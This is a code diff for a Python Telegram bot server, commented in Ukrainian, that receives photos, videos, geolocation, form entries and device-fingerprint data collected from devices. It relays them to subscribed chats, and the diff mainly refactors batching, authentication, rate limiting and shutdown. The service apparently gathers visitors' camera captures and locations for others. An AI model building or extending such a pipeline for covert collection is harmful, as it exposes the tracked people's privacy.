+async def safe_send_media(chat_id, kind: str, content: bytes, filename: str, **options):
+    method = _MEDIA_KINDS[kind][0]
+    return await retry_send(tg_upload, method, [(kind, content, filename)], chat_id=chat_id, **options)
+
+async def safe_send_media_group(chat_id, kind: str, files: List[Tuple[bytes, str]], caption: Optional[str] = None):
+    # Альбом із 2–10 файлів одним запитом: Telegram показує їх у заданому
+    # порядку, а підпис першого елемента — як підпис усього альбому.
+    media = [{"type": kind, "media": f"attach://{kind}{i}"} for i in range(len(files))]
+    if caption:
+        media[0].update(caption=caption, parse_mode=_PARSE_MODE)
+    attachments = [(f"{kind}{i}", content, filename) for i, (content, filename) in enumerate(files)]
+    return await retry_send(tg_upload, "sendMediaGroup", attachments, chat_id=chat_id, media=media)
+
+# ---------------- МЕДІА ----------------
+# Декодування base64 (pybase64 відпускає GIL) виноситься з event loop у пул,
+# тож кілька файлів одного сповіщення декодуються паралельно.
+DECODE_POOL = ThreadPoolExecutor(max_workers=4, thread_name_prefix="b64")
+
+def decode_b64_media(value) -> bytes:
+    # pybase64 (SIMD) читає ASCII-рядок напряму, без копії. Копія потрібна лише
+    # щоб відрізати префікс data-URL: рядок стає ASCII-байтами, а зріз після
+    # коми передаємо через memoryview замість split().
+    if isinstance(value, str):
+        if ',' not in value:
+            return pybase64.b64decode(value, validate=False)
+        value = value.encode('ascii')
+    comma = value.find(b',')
+    return pybase64.b64decode(memoryview(value)[comma + 1:], validate=False)
+
+async def send_media_batch(chat_id, kind: str, payloads: List[Any], caption: str, filename: str):
+    # Декодуємо всі елементи паралельно в DECODE_POOL (рядок base64 звільняємо
+    # одразу після декодування), а відправляємо одним альбомом, щоб порядок у
+    # чаті збігався з порядком у запиті, а підпис був на першому елементі.
+    # Елемент, що не декодувався, лише логуємо й пропускаємо. Якщо Telegram
+    # відхилив альбом (напр. один файл битий чи завеликий), шлемо файли по
+    # одному, щоб дійшли хоча б коректні. Блокування чату прокидаємо нагору,
+    # щоб _process_notify деактивував користувача.
+    loop = asyncio.get_running_loop()
+    label = _MEDIA_KINDS[kind][1]
+
+    async def decode_one(idx: int) -> Optional[bytes]:
+        try:
+            content = await loop.run_in_executor(DECODE_POOL, decode_b64_media, payloads[idx])
+            if not content:
+                raise ValueError("порожній файл")
+            return content
+        except Exception as e:
+            logger.error(f"Не вдалося декодувати {label} #{idx}: {e}")
+            return None
+        finally:
+            payloads[idx] = None
+
+    decoded = await asyncio.gather(*(decode_one(idx) for idx in range(len(payloads))))
+    files = [(content, filename.format(n=idx + 1)) for idx, content in enumerate(decoded) if content is not None]
+    if len(files) > 1:
+        try:
+            await safe_send_media_group(chat_id, kind, files, caption)
+            return
+        except Exception as e:
+            if is_blocked_error(e):
+                raise
+            logger.error(f"Не вдалося відправити {label} альбомом ({len(files)} шт.): {e}")
+            # Вичерпані ретраї чи flood-wait означають, що проблема в Telegram,
+            # а не у файлі, тож слати по одному немає сенсу.
+            if not isinstance(e, TelegramError) or is_retryable_error(e):
+                return
+
+    for idx, (content, name) in enumerate(files):
+        try:
+            await safe_send_media(
+                chat_id, kind, content, name,
+                caption=caption if idx == 0 else None,
+                parse_mode=_PARSE_MODE if idx == 0 else None
+            )
+        except Exception as e:
+            if is_blocked_error(e):
+                raise
+            logger.error(f"Не вдалося відправити {label} {name}: {e}")
+
 # ---------------- ОБРОБНИКИ КОМАНД ----------------
 @bot.command(r"/start(?:\s+(.+))?")
 async def handle_start(chat: Chat, match):
     try:
-        db_data = await read_db()
+        db_data = await db.snapshot()
         if db_data is None:
-            await retry_send(chat.send_text, "❌ Не вдалося прочитати БД. Спробуйте пізніше.")
+            await safe_send_text(chat.id, "❌ Не вдалося прочитати БД. Спробуйте пізніше.")
             return
 
         chat_id = chat.id
-        active_user = find_user_by_chat_id(db_data, chat_id)
+        active_user = db.find_by_chat(db_data, chat_id)
         activation_id = match.group(1) if match and match.group(1) else None
 
         if active_user and not activation_id:
-            await retry_send(chat.send_text, f"👋 Вітаю, {active_user.get('nickname', 'друже')}! Ваш акаунт вже прив'язаний та активний.")
+            await safe_send_text(chat.id, f"👋 Вітаю, {active_user.get('nickname', 'друже')}! Ваш акаунт вже прив'язаний та активний.")
             return
 
         if not activation_id:
-            await retry_send(chat.send_text, "Для активації, будь ласка, використайте персональне посилання з вашого кабінету.")
+            await safe_send_text(chat.id, "Для активації, будь ласка, використайте персональне посилання з вашого кабінету.")
             return
 
         if active_user:
-            await retry_send(chat.send_text, "Цей Telegram акаунт вже прив'язаний до профілю. Ви не можете активувати інший код.")
+            await safe_send_text(chat.id, "Цей Telegram акаунт вже прив'язаний до профілю. Ви не можете активувати інший код.")
             return
 
-        user_to_activate = None
-        for user in db_data.get("users", []):
-            binding = user.get("telegramBinding")
-            if binding and binding.get("activationId") == activation_id and binding.get("status") == "pending":
-                user_to_activate = user
-                break
-
-        if user_to_activate:
-            binding = user_to_activate.setdefault("telegramBinding", {})
-            binding["status"] = "active"
-            binding["chatId"] = chat_id
-            binding["username"] = (getattr(chat, "sender", {}) or {}).get("username")
-
-            if await write_db(db_data):
-                await retry_send(chat.send_text, f"✅ Вітаю, {user_to_activate.get('nickname', '')}! Сповіщення успішно увімкнено.")
-                logger.info(f"Користувач {user_to_activate.get('nickname')} (ID: {user_to_activate.get('userId')}) активував бота.")
-            else:
-                await retry_send(chat.send_text, "❌ Сталася помилка під час збереження даних. Спробуйте пізніше.")
+        # Підтвердження користувачу залежить від запису, тож пишемо одразу;
+        # activate сам звіряє версію файлу, тож щойно виданий код теж знайдеться.
+        saved, user_to_activate = await db.activate(
+            activation_id, chat_id, (getattr(chat, "sender", {}) or {}).get("username")
+        )
+
+        if not saved:
+            await safe_send_text(chat.id, "❌ Сталася помилка під час збереження даних. Спробуйте пізніше.")
+        elif user_to_activate:
+            await safe_send_text(chat.id, f"✅ Вітаю, {user_to_activate.get('nickname', '')}! Сповіщення успішно увімкнено.")
+            logger.info(f"Користувач {user_to_activate.get('nickname')} (ID: {user_to_activate.get('userId')}) активував бота.")
         else:
-            await retry_send(chat.send_text, "❌ Недійсний або вже використаний код активації.")
+            await safe_send_text(chat.id, "❌ Недійсний або вже використаний код активації.")
             logger.warning(f"Не знайдено користувача з activation_id: {activation_id}")
 
     except Exception as e:
         logger.error(f"Критична помилка в handle_start: {e}")
 
-@bot.command(r".*")
-async def handle_other_messages(chat: Chat, match):
+# Викликається aiotg, коли жодна команда не підійшла (лише в особистих чатах),
+# без окремого regex-збігу на кожне повідомлення.
+@bot.default
+async def handle_other_messages(chat: Chat, message):
     logger.info(f"Отримано непідтримуване повідомлення від {chat.id}")
     return
 
 # ---------------- ВЕБ-СЕРВЕР ----------------
+# Максимальний розмір тіла запиту — 20 МБ (фото/відео в base64).
+NOTIFY_MAX_BODY = 20 * 1024 * 1024
+_EXPECTED_AUTH = f"Bearer {API_SECRET}".encode()
+NOTIFY_EVENT_TYPES = frozenset(("photos", "video", "location", "form", "device_info"))
+
 async def handle_notify(request: web.Request):
-    auth_header = request.headers.get("Authorization")
-    if not auth_header or auth_header != f"Bearer {API_SECRET}":
+    auth_header = request.headers.get("Authorization") or ""
+    # aiohttp декодує байти заголовка, що не є UTF-8, як surrogate-escape;
+    # кодуємо так само, щоб такий заголовок давав 401, а не UnicodeEncodeError.
+    if not hmac.compare_digest(auth_header.encode("utf-8", "surrogateescape"), _EXPECTED_AUTH):
         logger.warning("Спроба неавторизованого доступу до /notify")
         return web.Response(status=401, text="Unauthorized")
 
+    if request.content_length and request.content_length > NOTIFY_MAX_BODY:
+        logger.warning(f"Завеликий запит до /notify: {request.content_length} байт")
+        return web.Response(status=413, text="Payload Too Large")
+
+    if telegram_breaker.is_open:
+        # Telegram лежить: не приймаємо тіло і не тримаємо з'єднання на ретраях.
+        return web.Response(
+            status=503, text="Service Unavailable",
+            headers={"Retry-After": str(int(telegram_breaker.reset_after))},
+        )
+
+    if notify_limiter.overloaded or not await notify_limiter.acquire(NOTIFY_QUEUE_TIMEOUT):
+        logger.warning(f"/notify перевантажено (ліміт {notify_limiter.limit}), відхиляю запит")
+        return web.Response(
+            status=429, text="Too Many Requests", headers={"Retry-After": str(NOTIFY_RETRY_AFTER)}
+        )
     try:
-        data = await request.json()
+        return await _process_notify(request)
+    finally:
+        await notify_limiter.release()
+
+async def _process_notify(request: web.Request) -> web.Response:
+    try:
+        data = orjson.loads(await request.read())
     except Exception as e:
         # Додано логування для діагностики
         logger.error(f"Помилка парсингу JSON: {e}. Розмір тіла запиту: {request.content_length} байт.")
         return web.Response(status=400, text="Bad Request: invalid or too large JSON")
 
+    if not isinstance(data, dict):
+        return web.Response(status=400, text="Bad Request: JSON object expected")
+
     chat_id = data.get("chat_id")
     event_data = data.get("event_data")
     if not chat_id or not event_data:
         return web.Response(status=400, text="Bad Request: Missing chat_id or event_data")
 
-    chat = Chat(bot, chat_id)
-    event_type = event_data.get("type")
-    
+    event_type = event_data.get("type") if isinstance(event_data, dict) else None
+    if event_type not in NOTIFY_EVENT_TYPES:
+        # Саме тіло не логуємо: у ньому можуть бути мегабайти base64.
+        logger.warning(f"Отримано невідомий тип події: {event_type!r}")
+        return web.Response(status=400, text="Bad Request: unknown event type")
+
     try:
         if event_type == "photos":
-            caption = (
-                "📸 **Нові фото!**\n\n"
-                f"**Пристрій:** `{event_data.get('fingerprint','-')}`\n"
-                f"**Час:** `{event_data.get('collectedAt','-')}`"
-            )
-            for idx, photo_b64 in enumerate(event_data.get("data", [])[:10]):
-                try:
-                    payload = photo_b64.split(",", 1)[1] if "," in photo_b64 else photo_b64
-                    photo_bytes = base64.b64decode(payload)
-                    fh = BytesIO(photo_bytes)
-                    await retry_send(
-                        chat.send_photo,
-                        photo=fh,
-                        caption=caption if idx == 0 else None,
-                        parse_mode="Markdown" if idx == 0 else None
-                    )
-                except Exception as e:
-                    logger.error(f"Не вдалося декодувати або відправити фото #{idx}: {e}")
+            caption = _PHOTO_CAPTION.format_map({
+                "fp": event_data.get('fingerprint', '-'),
+                "ts": event_data.get('collectedAt', '-'),
+            })
+            # Забираємо рядки base64 з event_data, щоб кожен звільнявся одразу після
+            # декодування, а не жив до кінця обробки разом із байтами медіа.
+            payloads = (event_data.pop("data", None) or [])[:10]
+            await send_media_batch(chat_id, "photo", payloads, caption, "photo_{n}.jpg")
         
         elif event_type == "video":
-            caption = (
-                "📹 **Нове відео!**\n\n"
-                f"**Пристрій:** `{event_data.get('fingerprint','-')}`\n"
-                f"**Час:** `{event_data.get('collectedAt','-')}`"
-            )
-            for idx, video_b64 in enumerate(event_data.get("data", [])[:10]):
-                try:
-                    payload = video_b64.split(",", 1)[1] if "," in video_b64 else video_b64
-                    video_bytes = base64.b64decode(payload)
-                    fh = BytesIO(video_bytes)
-                    fh.name = f"video_{idx+1}.webm"
-                    await retry_send(
-                        chat.send_video,
-                        video=fh,
-                        caption=caption if idx == 0 else None,
-                        parse_mode="Markdown" if idx == 0 else None
-                    )
-                except Exception as e:
-                    logger.error(f"Не вдалося декодувати або відправити відео #{idx}: {e}")
+            caption = _VIDEO_CAPTION.format_map({
+                "fp": event_data.get('fingerprint', '-'),
+                "ts": event_data.get('collectedAt', '-'),
+            })
+            payloads = (event_data.pop("data", None) or [])[:10]
+            await send_media_batch(chat_id, "video", payloads, caption, "video_{n}.webm")
 
         elif event_type == "location":
             lat = event_data.get("data", {}).get("latitude")
             lon = event_data.get("data", {}).get("longitude")
             if lat is None or lon is None:
                 return web.Response(status=400, text="Bad Request: location payload invalid")
-            maps_link = f"https://www.google.com/maps?q={lat},{lon}"
-            message_text = (
-                "📍 **Отримано геолокацію!**\n\n"
-                f"**Пристрій:** `{event_data.get('fingerprint','-')}`\n"
-                f"**Координати:** `{lat}, {lon}`\n\n"
-                f"[Відкрити на карті]({maps_link})"
-            )
-            await retry_send(chat.send_text, message_text, parse_mode="Markdown", disable_web_page_preview=True)
+            message_text = _LOCATION_TEXT.format_map({
+                "fp": event_data.get('fingerprint', '-'), "lat": lat, "lon": lon,
+            })
+            await safe_send_text(chat_id, message_text, parse_mode=_PARSE_MODE, disable_web_page_preview=True)
 
         elif event_type == "form":
-            form_id = event_data.get("formId", "-")
-            fields = "\n".join(
-                [f"- **{key}:** `{value}`"
-                 for key, value in (event_data.get("data") or {}).items()
-                 if str(value).strip()]
-            ) or "_(порожньо)_"
-            message_text = (
-                f"📝 **Заповнено форму: '{form_id}'**\n\n"
-                f"**Пристрій:** `{event_data.get('fingerprint','-')}`\n\n"
-                f"{fields}"
-            )
-            await retry_send(chat.send_text, message_text, parse_mode="Markdown")
+            message_text = _FORM_TEXT.format_map({
+                "form_id": event_data.get("formId", "-"),
+                "fp": event_data.get('fingerprint', '-'),
+                "fields": _fmt_fields(event_data.get("data")),
+            })
+            await safe_send_text(chat_id, message_text, parse_mode=_PARSE_MODE)
             
         elif event_type == "device_info":
-            info_items = [f"- **{key}:** `{value}`" 
-                          for key, value in (event_data.get("data") or {}).items()]
-            info_text = "\n".join(info_items) or "_(немає даних)_"
-            message_text = (
-                "ℹ️ **Інформація про пристрій**\n\n"
-                f"**Відбиток (FP):** `{event_data.get('fingerprint','-')}`\n"
-                f"**Час:** `{event_data.get('collectedAt','-')}`\n\n"
-                f"{info_text}"
-            )
-            await retry_send(chat.send_text, message_text, parse_mode="Markdown")
-
-        else:
-            logger.warning(f"Отримано невідомий тип події: {event_type}. Дані: {event_data}")
+            message_text = _DEVICE_INFO_TEXT.format_map({
+                "fp": event_data.get('fingerprint', '-'),
+                "ts": event_data.get('collectedAt', '-'),
+                "fields": _fmt_device_info(event_data.get("data")),
+            })
+            await safe_send_text(chat_id, message_text, parse_mode=_PARSE_MODE)
 
     except Exception as e:
         logger.error(f"Помилка при відправці сповіщення для chat_id {chat_id}: {e}")
         if is_blocked_error(e):
             logger.warning(f"Користувач {chat_id} заблокував бота/чат. Деактивую у БД...")
-            db_data = await read_db()
-            if db_data:
-                user_to_deactivate = find_user_by_chat_id(db_data, chat_id)
-                if user_to_deactivate and user_to_deactivate.get("telegramBinding", {}).get("status") != 'bot_blocked':
-                    user_to_deactivate["telegramBinding"]["status"] = 'bot_blocked'
-                    await write_db(db_data)
+            db.mark_blocked(chat_id)
                     
     return web.Response(status=200, text="OK")
 
@@ -324,23 +941,63 @@ async def handle_health_check(request: web.Request):
     return web.Response(status=200, text="OK. Bot is running.")
 
 # ---------------- KEEP-ALIVE ----------------
+# З'єднання тримає живими сам конектор (keepalive_timeout), а long polling
+# getUpdates і так ходить постійно. getMe шлемо лише після TELEGRAM_IDLE_PROBE
+# секунд без жодної відповіді від Telegram — як перевірку, що мережа жива.
+# Якщо getMe падає кілька разів поспіль, інтервал перевірок подвоюється (до
+# KEEP_ALIVE_MAX_INTERVAL), щоб під час збою мережі не смикати API і логи щохвилини.
+TELEGRAM_IDLE_PROBE = 240
+KEEP_ALIVE_CHECK_INTERVAL = 60
+KEEP_ALIVE_MAX_INTERVAL = 1800
+
 async def keep_alive():
+    failures = 0
     while True:
-        try:
-            await bot.get_me()
-            logger.info("Ping до Telegram успішний")
-        except Exception as e:
-            logger.warning(f"Ping до Telegram провалився: {e}")
-        await asyncio.sleep(300)
+        if time.monotonic() - _tg_activity["last_response"] > TELEGRAM_IDLE_PROBE:
+            try:
+                await bot.get_me()
+                failures = 0
+                logger.info("Ping до Telegram успішний")
+            except Exception as e:
+                failures += 1
+                logger.warning(f"Ping до Telegram провалився ({failures} поспіль): {e}")
+        else:
+            failures = 0
+        await asyncio.sleep(min(KEEP_ALIVE_MAX_INTERVAL, KEEP_ALIVE_CHECK_INTERVAL * 2 ** failures))
 
 # ---------------- MAIN ----------------
+async def telegram_session(app: web.Application):
+    # Єдина на процес ClientSession для Telegram: нею користуються і aiotg
+    # (getUpdates, getMe), і tg_call/tg_upload. aiotg створює сесію ліниво й
+    # не дає передати конектор, тож підставляємо свою. Живе стільки ж, скільки
+    # веб-застосунок: відкривається в runner.setup(), закривається в cleanup().
+    tg_trace = aiohttp.TraceConfig()
+    tg_trace.on_request_end.append(_on_tg_request_end)
+    session = aiohttp.ClientSession(
+        connector=aiohttp.TCPConnector(
+            family=TELEGRAM_ADDR_FAMILY, limit=100, ttl_dns_cache=DNS_CACHE_TTL,
+            keepalive_timeout=120, enable_cleanup_closed=True,
+        ),
+        trace_configs=[tg_trace],
+    )
+    app["session"] = bot._session = session
+    yield
+    await session.close()
+    bot._session = None
+
 async def main():
+    # Прогріваємо кеш БД до старту веб-сервера, щоб перші /start і /notify
+    # не чекали на Drive.
+    if await db.snapshot() is None:
+        logger.warning("БД не завантажено при старті, спробуємо при першому запиті.")
+
     # *** ОСНОВНЕ ВИПРАВЛЕННЯ ТУТ ***
     # Збільшуємо максимальний розмір тіла запиту до 20 МБ
-    app = web.Application(client_max_size=20 * 1024 * 1024)
+    app = web.Application(client_max_size=NOTIFY_MAX_BODY)
     
     app.router.add_post("/notify", handle_notify)
     app.router.add_get("/", handle_health_check)
+    app.cleanup_ctx.append(telegram_session)
 
     runner = web.AppRunner(app)
     await runner.setup()
@@ -348,11 +1005,32 @@ async def main():
     await site.start()
     logger.info(f"Веб-сервер запущено на порту {PORT}")
 
-    asyncio.create_task(keep_alive())
-    await bot.loop()
+    loop = asyncio.get_running_loop()
+    stop_event = asyncio.Event()
+    for sig in (signal.SIGINT, signal.SIGTERM):
+        loop.add_signal_handler(sig, stop_event.set)
+
+    pinger = asyncio.create_task(keep_alive())
+    flusher = asyncio.create_task(db.run_flusher())
+    polling = asyncio.create_task(bot.loop())
+    stopping = asyncio.create_task(stop_event.wait())
+    try:
+        await asyncio.wait({polling, stopping}, return_when=asyncio.FIRST_COMPLETED)
+        if polling.done():
+            polling.result()
+    finally:
+        for task in (polling, stopping, flusher, pinger):
+            task.cancel()
+        # runner.cleanup() дочікується обробників /notify, що ще виконуються, а
+        # вони можуть позначити нових заблокованих, тож зливаємо БД після нього
+        # (Drive не залежить від сесії Telegram, яку закриває cleanup).
+        await runner.cleanup()
+        await db.flush()
 
 if __name__ == "__main__":
     try:
         asyncio.run(main())
     except (KeyboardInterrupt, SystemExit):
+        pass
+    finally:
         logger.info("Бот зупинено.")